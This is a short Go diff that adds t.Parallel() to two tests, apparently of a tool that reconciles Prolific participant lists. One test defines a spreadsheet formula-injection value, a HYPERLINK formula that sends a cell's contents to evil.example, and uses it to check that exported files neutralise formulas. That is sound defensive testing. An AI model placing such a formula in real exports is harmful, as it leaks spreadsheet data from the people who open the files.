@@ -109,6 +109,7 @@ func TestReconcileRefusesHugeListsWhileReading(t *testing.T) {
 // =HYPERLINK(...) as their Prolific id, reconciled from a list carrying it: the report and
 // the approve file hold it with the exports' apostrophe, never as a formula.
 func TestReconcileDownloadsNeutraliseFormulas(t *testing.T) {
+	t.Parallel()
 	e := newConsoleEnv(t)
 	id := e.spawnOn(t, "prolific")
 	const evil = `=HYPERLINK("https://evil.example/?"&A1,"click")`
@@ -195,6 +196,7 @@ func TestReconcileRunsTwoAtOnce(t *testing.T) {
 // uploading it receives the 413 on a connection that stays usable instead of one cut
 // under its upload.
 func TestRefusedListWithinTheByteLimitIsReadToItsEnd(t *testing.T) {
+	t.Parallel()
 	e := newConsoleEnv(t)
 	ada := e.as["ada"]
 	id := e.spawnOn(t, "prolific")
